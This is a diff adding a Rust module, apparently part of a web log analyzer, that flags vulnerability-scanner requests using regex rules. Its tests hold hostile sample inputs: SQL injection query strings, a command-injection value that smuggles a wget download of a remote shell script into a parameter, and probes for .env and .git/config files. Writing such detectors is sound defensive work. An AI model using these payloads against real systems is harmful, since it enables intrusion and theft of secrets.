@@ -0,0 +1,144 @@
+use {
+    crate::*,
+    lazy_regex::regex::{self, RegexSet},
+    std::{
+        collections::HashSet,
+        path::Path,
+    },
+    thiserror::Error,
+};
+
+/// The embedded list of scan rules
+static RULES: &str = include_str!("scan_rules.txt");
+
+#[derive(Debug, Error)]
+pub enum ParseScanRuleError {
+    #[error("invalid scan rule line {0:?}")]
+    InvalidLine(String),
+    #[error("invalid scan rule pattern {0:?}")]
+    InvalidRegex(#[from] regex::Error),
+}
+
+/// Detects the hits of vulnerability scanners, using rules
+/// matched on the path of the hit, then on the whole request
+/// target (path and query string) when there's a query.
+///
+/// Once a remote address has sent a probe, all its following
+/// hits are considered as coming from a scanner.
+pub struct ScannerDetector {
+    names: Vec<&'static str>,
+    set: RegexSet,
+    scanners: HashSet<Box<str>>,
+}
+
+fn parse_rules(
+    s: &'static str,
+    names: &mut Vec<&'static str>,
+    patterns: &mut Vec<&'static str>,
+) -> Result<(), ParseScanRuleError> {
+    for line in s.lines() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        match line.split_once(char::is_whitespace) {
+            Some((name, pattern)) => {
+                names.push(name);
+                patterns.push(pattern.trim());
+            }
+            None => {
+                return Err(ParseScanRuleError::InvalidLine(line.to_owned()));
+            }
+        }
+    }
+    Ok(())
+}
+
+impl ScannerDetector {
+    /// Build a detector from the embedded rules, and optionally
+    /// from the ones of a file (which are tested first)
+    pub fn new(rules_file: Option<&Path>) -> Result<Self, RhitError> {
+        let mut names = Vec::new();
+        let mut patterns = Vec::new();
+        if let Some(path) = rules_file {
+            let content = leak::read_leaked(path)?;
+            parse_rules(content, &mut names, &mut patterns)?;
+        }
+        parse_rules(RULES, &mut names, &mut patterns)?;
+        let set = RegexSet::new(patterns).map_err(ParseScanRuleError::from)?;
+        Ok(Self {
+            names,
+            set,
+            scanners: HashSet::new(),
+        })
+    }
+    fn matching_rule(&self, target: &str) -> Option<usize> {
+        let path = target.split('?').next().unwrap();
+        if let Some(idx) = self.set.matches(path).iter().next() {
+            return Some(idx);
+        }
+        if path.len() == target.len() {
+            return None; // no query
+        }
+        self.set.matches(target).iter().next()
+    }
+    /// Classify a hit given by its remote address and its request
+    /// target, as borrowed from the raw log line
+    pub fn detect(&mut self, remote_addr: &str, target: &str) -> ScanKind {
+        if let Some(idx) = self.matching_rule(target) {
+            if !self.scanners.contains(remote_addr) {
+                self.scanners.insert(remote_addr.into());
+            }
+            return ScanKind::Probe(self.names[idx]);
+        }
+        if self.scanners.contains(remote_addr) {
+            ScanKind::Scanner
+        } else {
+            ScanKind::Clean
+        }
+    }
+}
+
+#[cfg(test)]
+mod scanner_detector_tests {
+
+    use super::*;
+
+    #[test]
+    fn test_rules() {
+        let mut sd = ScannerDetector::new(None).unwrap();
+        assert_eq!(sd.detect("1.2.3.4", "/blog/wp-guide"), ScanKind::Clean);
+        assert_eq!(sd.detect("1.2.3.5", "/wp-login.php"), ScanKind::Probe("wordpress"));
+        assert_eq!(sd.detect("1.2.3.6", "/.env"), ScanKind::Probe("env-file"));
+        assert_eq!(sd.detect("1.2.3.6", "/api/.env.local"), ScanKind::Probe("env-file"));
+        assert_eq!(sd.detect("1.2.3.7", "/.git/config"), ScanKind::Probe("git"));
+        assert_eq!(sd.detect("1.2.3.8", "/cgi-bin/luci"), ScanKind::Probe("cgi-bin"));
+        assert_eq!(sd.detect("1.2.3.9", r"\x16\x03\x01\x00u\x01"), ScanKind::Probe("tls-on-http"));
+        // following hits of a scanner are tagged, even when innocent
+        assert_eq!(sd.detect("1.2.3.5", "/"), ScanKind::Scanner);
+        assert_eq!(sd.detect("1.2.3.4", "/"), ScanKind::Clean);
+    }
+
+    #[test]
+    fn test_query_rules() {
+        let mut sd = ScannerDetector::new(None).unwrap();
+        assert_eq!(
+            sd.detect("1.2.3.4", "/products.php?id=1%20UNION%20SELECT%20password%20FROM%20users"),
+            ScanKind::Probe("sql-injection"),
+        );
+        assert_eq!(
+            sd.detect("1.2.3.5", "/login?user=admin%27%20or%20%271%27=%271"),
+            ScanKind::Probe("sql-injection"),
+        );
+        assert_eq!(
+            sd.detect("1.2.3.6", "/ping?host=127.0.0.1;wget%20http://1.2.3.4/x.sh"),
+            ScanKind::Probe("command-injection"),
+        );
+        assert_eq!(sd.detect("1.2.3.7", "/search?q=select%20a%20union"), ScanKind::Clean);
+        // path rules anchored at the end still apply when there's a query
+        assert_eq!(sd.detect("1.2.3.8", "/.env?x=1"), ScanKind::Probe("env-file"));
+        // downloading an archive isn't a probe
+        assert_eq!(sd.detect("1.2.3.9", "/downloads/release.tar.gz"), ScanKind::Clean);
+        assert_eq!(sd.detect("1.2.3.9", "/downloads/release.zip"), ScanKind::Clean);
+    }
+}